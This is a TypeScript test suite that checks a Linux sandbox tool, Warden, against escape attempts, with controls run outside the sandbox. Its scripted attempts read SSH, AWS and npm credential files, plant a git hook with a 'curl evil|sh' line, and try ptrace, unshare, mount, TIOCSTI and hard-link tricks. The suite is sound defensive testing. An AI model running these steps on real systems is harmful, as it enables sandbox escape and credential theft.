// The escape suite: one test per attempt to get out of `warden run`, each of which must fail,
// run once with Warden as root and once as an unprivileged user (nobody). Every attempt is
// checked on the host side too (the file is not there, the server saw nothing, the process
// still runs), and where a check could pass for the wrong reason a control runs the same
// attempt outside the sandbox and shows it succeeds there.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WORKSPACE_PROTECTED } from '../../src/config/defaults.js';
import { NOBODY, PY, readEvents, run, sandboxSh, scratch, USER_UID, warden, WARDEN, warmFastPath, type Scratch } from './helpers/warden-run.js';

const PROBE = path.join(path.dirname(new URL(import.meta.url).pathname), 'helpers/probe.py');
const EPERM = 1;
const ENOSYS = 38;

// Three identities: Warden as root in a root-owned workspace (CI containers, sudo in /root: the
// sandbox runs as the stand-in uid), as root in a user's workspace (it runs as that user), and
// Warden itself unprivileged. `uid` is Warden's, `owner` the workspace's.
const IDENTITIES = [
  { who: 'root', uid: undefined, owner: undefined },
  { who: 'root-user-ws', uid: undefined, owner: USER_UID },
  { who: 'nobody', uid: NOBODY, owner: NOBODY },
] as const;

for (const { who, uid, owner } of IDENTITIES) {
  describe(`escape attempts (warden run as ${who})`, () => {
    let s: Scratch;
    let env: Record<string, string>;
    const sh = (script: string, extra: Parameters<typeof sandboxSh>[1] extends infer T ? Partial<T> : never = {}) =>
      sandboxSh(script, { cwd: s.ws, uid, env, ...extra });

    beforeAll(async () => {
      s = scratch(owner);
      env = { HOME: s.home, FAKE_API_TOKEN: 'tok-parent-env-secret', AWS_SECRET_ACCESS_KEY: 'aws-parent-env-secret' };
      s.write('home/.ssh/id_ed25519', 'FAKE-PRIVATE-KEY-ssh');
      s.write('home/.aws/credentials', '[default]\naws_secret_access_key=FAKE-PRIVATE-KEY-aws');
      s.write('home/.npmrc', '//registry.npmjs.org/:_authToken=FAKE-PRIVATE-KEY-npm');
      s.write('home/.docker/config.json', '{"auths":{"x":{"auth":"FAKE-PRIVATE-KEY-docker"}}}');
      s.write('home/.config/gcloud/credentials.db', 'FAKE-PRIVATE-KEY-gcloud');
      s.write('home/.bash_history', 'export TOKEN=FAKE-PRIVATE-KEY-history');
      s.write('ws/.env', 'DB_PASSWORD=FAKE-PRIVATE-KEY-dotenv');
      s.write('ws/services/api/.env.local', 'KEY=FAKE-PRIVATE-KEY-nested');
      s.write('outside/file.txt', 'outside-original');
      await warmFastPath({ cwd: s.ws, uid, env }); // every attempt below through the launcher (unless WARDEN_FAST=0)
    });
    afterAll(() => s.cleanup());

    it('cannot write outside the workspace', async () => {
      const r = await sh(`for f in ${s.outside}/new.txt ${s.outside}/file.txt ${s.home}/.bashrc /etc/warden-escape /usr/warden-escape; do echo pwned > "$f" 2>/dev/null && echo "WROTE $f"; done; echo done`);
      expect(r.stdout).not.toContain('WROTE');
      expect(r.stdout).toContain('done');
      expect(fs.existsSync(path.join(s.outside, 'new.txt'))).toBe(false);
      expect(fs.readFileSync(path.join(s.outside, 'file.txt'), 'utf8')).toBe('outside-original');
      expect(fs.existsSync(path.join(s.home, '.bashrc'))).toBe(false);
      expect(fs.existsSync('/etc/warden-escape')).toBe(false);
    });

    it('cannot write into any existing protected path of the workspace', async () => {
      const ws = path.join(s.ws, 'protected-existing');
      for (const rel of WORKSPACE_PROTECTED) {
        if (rel.includes('.') && !rel.startsWith('.git/') && /\.(json|yml)$|^\.[a-z_]+rc$|^\.(gitmodules|envrc|profile|bash_profile|zprofile)$/.test(rel)) s.write(path.join(ws, rel), 'original');
        else s.write(path.join(ws, rel, rel.endsWith('config') ? '' : 'keep'), 'original');
      }
      // .git/config is a file, .git/hooks a directory
      fs.rmSync(path.join(ws, '.git/config'), { recursive: true, force: true });
      s.write(path.join(ws, '.git/config'), 'original');
      const attempts = WORKSPACE_PROTECTED.map((rel) => {
        const p = path.join(ws, rel);
        return `if [ -d "${p}" ]; then (echo evil > "${p}/evil") 2>/dev/null && echo "WROTE ${rel}"; rm -rf "${p}" 2>/dev/null; mv "${p}" "${p}.moved" 2>/dev/null && echo "MOVED ${rel}"; else (echo evil >> "${p}") 2>/dev/null && echo "WROTE ${rel}"; mv "${p}" "${p}.moved" 2>/dev/null && echo "MOVED ${rel}"; fi`;
      });
      const r = await sh(`cd ${ws}; ${attempts.join('\n')}; echo done`, { cwd: ws });
      expect(r.stdout.trim()).toBe('done');
      for (const rel of WORKSPACE_PROTECTED) {
        const p = path.join(ws, rel);
        if (fs.statSync(p).isDirectory()) expect(fs.existsSync(path.join(p, 'evil')), rel).toBe(false);
        else expect(fs.readFileSync(p, 'utf8'), rel).toBe('original');
      }
    });

    it('protected paths it creates are moved aside after the run and reported', async () => {
      const ws = path.join(s.ws, 'protected-missing');
      s.write(path.join(ws, '.git/HEAD'), 'ref: refs/heads/main\n');
      const audit = path.join(s.root, `audit-prot-${who}.ndjson`);
      if (uid !== undefined) fs.writeFileSync(audit, ''), fs.chownSync(audit, uid, uid);
      const r = await sh(
        `mkdir -p .git/hooks .vscode && printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit && echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json && echo created`,
        { cwd: ws, audit },
      );
      expect(r.stdout).toContain('created');
      expect(r.stderr).toMatch(/protected path .*\.mcp\.json was created/);
      for (const rel of ['.git/hooks', '.vscode', '.mcp.json']) {
        expect(fs.existsSync(path.join(ws, rel)), rel).toBe(false);
        expect(fs.readdirSync(path.dirname(path.join(ws, rel))).some((n) => n.startsWith(`${path.basename(rel)}.warden-quarantined-`)), rel).toBe(true);
      }
      const alerts = readEvents(audit).filter((e) => e.kind === 'sandbox.deny' && e.rule === 'sandbox.protected_path');
      expect(alerts.map((e) => path.relative(ws, e.file!.path)).sort()).toEqual(['.git/hooks', '.mcp.json', '.vscode']);
      expect(alerts.every((e) => e.severity === 'alert' && e.category === 'persistence')).toBe(true);
    });

    it('cannot replace .git (or a directory on the way to a hook) to plant a hook while the run goes on', async () => {
      const ws = path.join(s.ws, 'git-swap');
      s.write(path.join(ws, '.git/HEAD'), 'ref: refs/heads/main\n');
      s.write(path.join(ws, '.git/config'), '[core]\n');
      s.write(path.join(ws, '.git/hooks/README'), 'hooks');
      s.write(path.join(ws, '.git/modules/lib/HEAD'), 'ref: refs/heads/main\n');
      s.write(path.join(ws, '.git/modules/lib/config'), '[core]\n\tworktree = ../../../lib\n');
      s.write(path.join(ws, '.git/modules/lib/hooks/README'), 'hooks');
      const r = await sh(
        `mv .git .git-old 2>/dev/null && echo MOVED-GIT; mv .git/modules .git/m2 2>/dev/null && echo MOVED-MODULES; mv .git/modules/lib .git/modules/lib2 2>/dev/null && echo MOVED-MODULE; ` +
          `mkdir -p x/hooks && printf '#!/bin/sh\\necho owned\\n' > x/hooks/post-checkout; chmod +x x/hooks/post-checkout; rm -rf .git/hooks 2>/dev/null; mv x/hooks .git/hooks 2>/dev/null && echo SWAPPED-HOOKS; echo done`,
        { cwd: ws },
      );
      expect(r.stdout).toContain('done');
      expect(r.stdout).not.toMatch(/MOVED|SWAPPED/);
      expect(fs.existsSync(path.join(ws, '.git/hooks/post-checkout'))).toBe(false);
      expect(fs.readFileSync(path.join(ws, '.git/hooks/README'), 'utf8')).toBe('hooks');
      // control: outside the sandbox the same swap works
      const c = await run(['/bin/sh', '-c', 'mv .git/modules/lib .git/modules/lib2 && echo MOVED && mv .git/modules/lib2 .git/modules/lib'], { cwd: ws, uid });
      expect(c.stdout).toContain('MOVED');
    });

    it('cannot read fake keys in a temporary HOME or .env files in the workspace', async () => {
      fs.symlinkSync(path.join(s.home, '.ssh/id_ed25519'), path.join(s.ws, 'key-link'));
      const files = ['.ssh/id_ed25519', '.aws/credentials', '.npmrc', '.docker/config.json', '.config/gcloud/credentials.db', '.bash_history'].map((f) => path.join(s.home, f));
      files.push(path.join(s.ws, '.env'), path.join(s.ws, 'services/api/.env.local'), path.join(s.ws, 'key-link'), `/proc/self/root${s.home}/.ssh/id_ed25519`, `/proc/1/root${s.home}/.aws/credentials`);
      const r = await sh(`for f in ${files.join(' ')}; do cat "$f" 2>/dev/null; done; ls -a ${s.home}/.ssh; grep -r FAKE-PRIVATE ${s.home} ${s.ws} 2>/dev/null; echo done`);
      expect(r.stdout).not.toContain('FAKE-PRIVATE-KEY');
      expect(r.stdout).toContain('done');
      // control: the same reads outside the sandbox find every key
      const c = await run(['/bin/sh', '-c', `cat ${files.slice(0, 8).join(' ')}`], { cwd: s.ws, uid });
      expect(c.stdout.match(/FAKE-PRIVATE-KEY/g)?.length).toBe(8);
    });

    it('does not see secrets from the parent environment', async () => {
      const r = await sh(`env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; echo done`);
      expect(r.stdout).toContain('done');
      expect(r.stdout).not.toContain('parent-env-secret');
      expect(r.stdout).toMatch(/^WARDEN_SANDBOX=/m);
    });

    it('cannot ptrace (strace, attach to a sibling)', async () => {
      const r = await sh(
        `sleep 5 & S=$!; strace -o /dev/null true >/dev/null 2>&1; echo strace_rc=$?; ${PY} -c "import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); print('attach', l.ptrace(16, int(sys.argv[1]), 0, 0), ctypes.get_errno())" $S; kill $S`,
      );
      expect(r.stdout).toMatch(/strace_rc=[1-9]/);
      expect(r.stdout).toContain(`attach -1 ${EPERM}`);
      if (uid === undefined) expect((await run(['strace', '-o', '/dev/null', 'true'], { cwd: s.ws })).code).toBe(0); // control
    });

    it('cannot create user namespaces (unshare -U, unshare -r)', async () => {
      const r = await sh(`unshare -U true 2>&1; echo rc=$?; unshare -r id 2>&1; echo rc=$?; unshare -n true 2>&1; echo rc=$?`);
      expect(r.stdout.match(/rc=1/g)?.length).toBe(3);
      expect(r.stdout).toMatch(/Operation not permitted/);
      const c = await run(['unshare', '-U', 'true'], { cwd: s.ws, uid });
      expect(c.code).toBe(0); // control: allowed outside
    });

    it('cannot mount, nor remount read-only binds writable', async () => {
      fs.mkdirSync(path.join(s.ws, '.git/hooks'), { recursive: true });
      const r = await sh(
        `mount -t tmpfs none /mnt 2>&1; echo rc=$?; mount -o remount,rw / 2>&1; echo rc=$?; mount -o remount,bind,rw ${s.ws}/.git/hooks 2>&1; echo rc=$?; ` +
          `${PY} -c "import ctypes; l=ctypes.CDLL(None,use_errno=True); print('mount_setattr', l.syscall(442, -100, b'/', 0x8000, 0, 0), ctypes.get_errno())"; ` +
          `touch / ${s.ws}/.git/hooks/x 2>&1; echo done`,
      );
      expect(r.stdout.match(/rc=(\d+)/g)).toEqual(['rc=32', 'rc=32', 'rc=32'].map((x) => x)); // mount(8): 32 = mount failure
      expect(r.stdout).toContain(`mount_setattr -1 ${EPERM}`);
      expect(r.stdout).toMatch(/Read-only file system/);
      expect(fs.existsSync(path.join(s.ws, '.git/hooks/x'))).toBe(false);
    });

    it('cannot see or signal host processes', async () => {
      const host = spawn('sleep', ['300'], { stdio: 'ignore' });
      try {
        const r = await sh(`ls /proc | grep -c '^[0-9]'; kill -0 ${host.pid} 2>&1; echo rc=$?; kill -9 ${host.pid} 2>&1; ls /proc/${host.pid} 2>&1 | head -1; ps -eo pid,comm`);
        expect(Number(r.stdout.split('\n')[0])).toBeLessThan(10);
        expect(r.stdout).toContain('rc=1');
        expect(r.stdout).not.toMatch(/\bsleep\b.*300|vitest|node/);
        expect(host.exitCode).toBeNull();
        expect(() => process.kill(host.pid!, 0)).not.toThrow(); // still alive on the host
      } finally {
        host.kill('SIGKILL');
      }
    });

    it('cannot reach a unix socket outside (a fake docker.sock, an abstract socket)', async () => {
      let connections = 0;
      const servers: net.Server[] = [];
      const listenOn = (p: string) =>
        new Promise<void>((r) => {
          const srv = net.createServer((c) => {
            connections++;
            c.end('docker-api\n');
          });
          servers.push(srv);
          srv.listen(p, () => r());
        });
      const sock1 = path.join(s.ws, 'docker.sock');
      const sock2 = path.join(s.home, 'docker.sock');
      const abstract = `\0warden-test-${process.pid}-${who}`;
      await listenOn(sock1);
      await listenOn(sock2);
      await listenOn(abstract);
      fs.chmodSync(sock1, 0o777);
      fs.chmodSync(sock2, 0o777);
      try {
        const py = `import socket,sys\nfor p in sys.argv[1:]:\n  p = p.replace('@', chr(0), 1) if p.startswith('@') else p\n  try:\n    s = socket.socket(socket.AF_UNIX); s.connect(p); print('CONNECTED', repr(s.recv(20)))\n  except OSError as e: print('refused', e.errno)\n`;
        s.write('ws/conn.py', py);
        const args = `${sock1} ${sock2} @${abstract.slice(1)}`;
        for (const network of ['none', 'full']) {
          const r = await sh(`${PY} conn.py ${args}; curl -s --unix-socket ${sock1} http://x/ 2>&1; echo rc=$?`, { network });
          expect(r.stdout).not.toContain('CONNECTED');
          expect(r.stdout.match(/refused 1/g)?.length, network).toBe(3);
        }
        expect(connections).toBe(0);
        // control: outside the sandbox the same client connects
        const c = await run([PY, path.join(s.ws, 'conn.py'), sock1], { cwd: s.ws, uid });
        expect(c.stdout).toContain('CONNECTED');
      } finally {
        for (const srv of servers) srv.close();
      }
    });

    it('cannot use a descriptor inherited by warden', async () => {
      const secret = s.write('outside/inherited-secret.txt', 'INHERITED-FD-SECRET');
      if (uid !== undefined) fs.chmodSync(secret, 0o644);
      const fd = fs.openSync(secret, 'r');
      try {
        const r = await warden(['run', '--', '/bin/sh', '-c', 'ls /proc/self/fd; cat <&3; cat <&4; cat /proc/self/fd/3 /proc/self/fd/4; echo done'], {
          cwd: s.ws,
          uid,
          env,
          extraStdio: [fd, fd],
        });
        expect(r.stdout).toContain('done');
        expect(r.stdout).not.toContain('INHERITED-FD-SECRET');
        expect(r.stdout.split('\n').filter((l) => /^\d+$/.test(l)).map(Number).filter((n) => n > 3)).toEqual([]);
        // control: without the sandbox the child can read it
        const c = await run(['/bin/sh', '-c', 'cat <&3'], { cwd: s.ws, uid, extraStdio: [fd] });
        expect(c.stdout).toContain('INHERITED-FD-SECRET');
      } finally {
        fs.closeSync(fd);
      }
    });

    it('cannot raise a resource limit', async () => {
      const r = await sh(`ulimit -Hn; ulimit -Hn $(( $(ulimit -Hn) + 1 )) 2>&1; echo rc=$?; prlimit --pid $$ --nproc=unlimited:unlimited 2>&1; echo rc=$?`);
      expect(r.stdout.match(/rc=(\d+)/g)).not.toContain('rc=0');
    });

    it('cannot change or escape its cgroup', async () => {
      if (uid !== undefined) {
        // Unprivileged: no cgroup of its own (none writable); limits are refused instead.
        const p = s.policy('resources: { pids: 64 }\n');
        const r = await warden(['run', '--policy', p, '--', 'true'], { cwd: s.ws, uid, env });
        expect(r.code).toBe(1);
        expect(r.stderr).toMatch(/resources.pids needs a writable cgroup.*Fix:/);
        return;
      }
      const p = s.policy('resources: { pids: 64, memory: 256MB }\n');
      const audit = path.join(s.root, 'audit-cg.ndjson');
      const r = await warden(
        [
          'run', '--policy', p, '--audit', audit, '--', '/bin/sh', '-c',
          `for f in /sys/fs/cgroup/pids/cgroup.procs /sys/fs/cgroup/unified/cgroup.procs /sys/fs/cgroup/memory/cgroup.procs; do echo $$ > $f 2>/dev/null && echo "MOVED $f"; done; ` +
            `for f in $(find /sys/fs/cgroup -name pids.max -o -name memory.limit_in_bytes 2>/dev/null | head -50); do echo max > $f 2>/dev/null && echo "RAISED $f"; done; cat /proc/self/cgroup`,
        ],
        { cwd: s.ws, env },
      );
      expect(r.stdout).not.toMatch(/MOVED|RAISED/);
      expect(r.stdout).toMatch(/^0::\/$/m); // its own cgroup namespace: the sandbox cgroup is its root
      const start = readEvents(audit).find((e) => e.kind === 'sandbox.start')!;
      expect((start.data as { cgroups: { enforced_by: Record<string, string> } }).cgroups.enforced_by).toMatchObject({ pids: expect.any(String), memory: expect.any(String) });
    });

    it('cannot push keystrokes into the terminal (TIOCSTI)', async () => {
      const py = `import fcntl,termios\ntry:\n  fcntl.ioctl(0, termios.TIOCSTI, b"x"); print("PUSHED")\nexcept OSError as e: print("refused", e.errno)\n`;
      s.write('ws/tiocsti.py', py);
      const r = await run(['script', '-qec', `${WARDEN} run -- ${PY} tiocsti.py`, '/dev/null'], { cwd: s.ws, uid, env });
      expect(r.stdout).toContain(`refused ${EPERM}`);
      expect(r.stdout).not.toContain('PUSHED');
      if (uid === undefined) {
        const c = await run(['script', '-qec', `${PY} tiocsti.py`, '/dev/null'], { cwd: s.ws });
        expect(c.stdout).toContain('PUSHED'); // control: root outside can
      }
    });

    it('learns nothing usable from /proc/self/mountinfo (no devices, no handles, hidden stays hidden)', async () => {
      const py = [
        'import ctypes, os, re',
        'l = ctypes.CDLL(None, use_errno=True)',
        'mi = open("/proc/self/mountinfo").read()',
        'root = [x for x in mi.splitlines() if x.split()[4] == "/"][0]',
        'maj, mi_ = map(int, root.split()[2].split(":"))',
        'print("mknod", l.mknod(b"/tmp/disk", 0o60600, os.makedev(maj, mi_)), ctypes.get_errno())',
        'print("devs", sorted(os.listdir("/dev")))',
        'print("open_by_handle_at", l.syscall(304, -100, 0, 0), ctypes.get_errno())',
        `srcs = set(x.split(" - ")[1].split()[1] for x in mi.splitlines())`,
        'for src in srcs:',
        '  for cand in (src, "/dev/" + src.split("/")[-1]):',
        '    try: open(cand, "rb").read(16); print("READ DEVICE", cand)',
        '    except OSError: pass',
      ].join('\n');
      s.write('ws/mi.py', py);
      const r = await sh(`${PY} mi.py; cat /proc/1/root${s.home}/.ssh/id_ed25519 /proc/self/cwd/../home/.ssh/id_ed25519 2>&1 | grep -c FAKE-PRIVATE`);
      expect(r.stdout).toMatch(/mknod -1 1\b/);
      expect(r.stdout).toContain(`open_by_handle_at -1 ${EPERM}`);
      expect(r.stdout).not.toContain('READ DEVICE');
      expect(r.stdout).not.toMatch(/'(sda|vda|nvme\w*|xvda)'/);
      expect(r.stdout.trim().split('\n').pop()).toBe('0');
    });

    it('a symlink planted in the workspace cannot lead a write outside', async () => {
      fs.symlinkSync(path.join(s.outside, 'file.txt'), path.join(s.ws, 'to-outside'));
      fs.symlinkSync(s.home, path.join(s.ws, 'to-home'));
      const r = await sh(`echo pwned > to-outside 2>&1; echo pwned > to-home/.profile 2>&1; ln -s ${s.home}/.bashrc ./rc && echo x >> ./rc 2>&1; echo done`);
      expect(r.stdout).toContain('done');
      expect(fs.readFileSync(path.join(s.outside, 'file.txt'), 'utf8')).toBe('outside-original');
      expect(fs.existsSync(path.join(s.home, '.profile'))).toBe(false);
      expect(fs.existsSync(path.join(s.home, '.bashrc'))).toBe(false);
    });

    it('an allow_write path that goes through a symlink planted in the workspace is refused', async () => {
      fs.symlinkSync(s.home, path.join(s.ws, 'cache'));
      const p = s.policy('filesystem: { allow_write: [cache] }\n');
      const r = await warden(['run', '--policy', p, '--', '/bin/sh', '-c', `echo pwned > ${s.ws}/cache/.bashrc; echo ran`], { cwd: s.ws, uid, env });
      expect(r.stdout).not.toContain('ran');
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/symlink/);
      expect(fs.existsSync(path.join(s.home, '.bashrc'))).toBe(false);
    });

    it('cannot hard-link a secret into the workspace', async () => {
      const r = await sh(`ln ${s.home}/.ssh/id_ed25519 ./hl1 2>&1; ln /etc/shadow ./hl2 2>&1; ln ${s.home}/.npmrc ./hl3 2>&1; cat hl1 hl2 hl3 2>/dev/null | grep -c FAKE-PRIVATE`);
      expect(r.stdout.trim().split('\n').pop()).toBe('0');
      expect(fs.existsSync(path.join(s.ws, 'hl2'))).toBe(false);
    });

    it('setuid programs and /proc/sys give no privilege', async () => {
      const r = await sh(
        `su -c id root </dev/null 2>&1 | tail -1; echo rc=$?; sudo -n true 2>&1 | tail -1; echo x > /proc/sys/kernel/hostname 2>&1; echo rc=$?; echo h > /proc/sysrq-trigger 2>&1; echo rc=$?; grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status`,
      );
      expect(r.stdout).toMatch(/^CapEff:\s+0+$/m);
      expect(r.stdout).toMatch(/^CapBnd:\s+0+$/m);
      expect(r.stdout).toMatch(/^NoNewPrivs:\s+1$/m);
      expect(r.stdout).toMatch(/^Seccomp:\s+2$/m);
      expect(r.stdout).not.toMatch(/uid=0\(root\)/);
    });

    it("cannot see Warden's own state or the host's /run", async () => {
      const r = await sh(`ls -a /run /tmp /var/tmp; ls /run/warden /tmp/warden-${NOBODY} 2>&1; cat /proc/1/cmdline | tr '\\0' ' '; echo; echo done`);
      expect(r.stdout).not.toMatch(/sandboxes|empty/);
      // bwrap's own command line (pid 1 inside) does not list what is hidden or protected
      expect(r.stdout).toMatch(/bwrap --args \d+ --/);
      expect(r.stdout).not.toContain(`${s.home}/.ssh`);
      expect(r.stdout).toMatch(/ls: cannot access '\/run\/warden': No such file or directory/);
      expect(r.stdout).toContain('done');
    });

    it('every denied syscall fails inside (control: each behaves differently outside)', async () => {
      fs.copyFileSync(PROBE, path.join(s.ws, 'probe.py'));
      const r = await sh(`${PY} probe.py`);
      const inside = JSON.parse(r.stdout) as Record<string, number>;
      for (const [name, errno] of Object.entries(inside)) {
        const want = name === 'clone3' ? ENOSYS : EPERM;
        expect(errno, name).toBe(want);
      }
      if (uid === undefined) {
        const c = await run([PY, PROBE], { cwd: s.ws });
        const outside = JSON.parse(c.stdout) as Record<string, number>;
        for (const name of Object.keys(inside)) expect(outside[name], `${name} outside`).not.toBe(inside[name]);
      }
    });
  });
}
